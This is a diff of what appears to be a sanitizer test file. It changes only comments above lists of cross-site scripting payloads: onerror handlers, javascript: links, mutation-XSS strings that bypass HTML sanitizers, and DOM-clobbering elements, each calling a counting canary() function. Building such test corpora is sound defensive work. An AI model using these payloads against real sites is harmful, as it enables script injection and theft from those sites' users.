@@ -1,5 +1,5 @@
-// Payloads that are markup: elements, handlers, and markup that reads differently when it is read again.
-// Each calls `canary()`, which the browser of the experiment counts.
+// Payloads that are markup: elements, event handlers, and markup that is parsed differently the second time. Each calls
+// `canary()`, which the browser of the experiment counts.
 
 const handlers = [
   '<img src=x onerror=canary()>', '<img src onerror=canary()>', '<image src=x onerror=canary()>', '<IMG SRC=X ONERROR=canary()>',
@@ -56,7 +56,7 @@ const frames = [
   '<link rel=manifest href=https://canary.example/>', '<a href=https://canary.example ping=https://canary.example/ping target=_blank>x</a>',
 ] // biome-ignore format: a list
 
-/** Read once they are harmless; read again as another kind of content they are not. */
+/** Mutation XSS: harmless when parsed once, but not when parsed again as another kind of content. */
 const mutations = [
   '<svg></p><style><a id="</style><img src=1 onerror=canary()>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
   '<math><mtext><table><mglyph><style><math><img src onerror=canary()>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
@@ -87,7 +87,7 @@ const vectors = [
   '<math href="javascript:canary()">x</math>', '<math><maction actiontype="statusline" xlink:href="javascript:canary()">x</maction></math>', '<math><a href="javascript:canary()">x</a></math>', '<svg><tspan onclick=canary()>x</tspan></svg>',
 ] // biome-ignore format: a list
 
-/** Elements with names that scripts of a page may ask `document` or `window` for. */
+/** DOM clobbering: elements with names that scripts of a page may read from `document` or `window`. */
 const clobbering = [
   '<form id=document></form>', '<img name=cookie>', '<img name=currentScript>', '<form name=body></form>', '<a id=location href="javascript:canary()">x</a>', '<a id=defaultView></a><a id=defaultView name=x href="javascript:canary()">x</a>',
   '<form id=forms><input name=action></form>', '<input name=attributes form=x><form id=x><input name=parentNode></form>', '<iframe name=fetch srcdoc="x"></iframe>', '<img id=localStorage>', '<embed name=getElementById>',
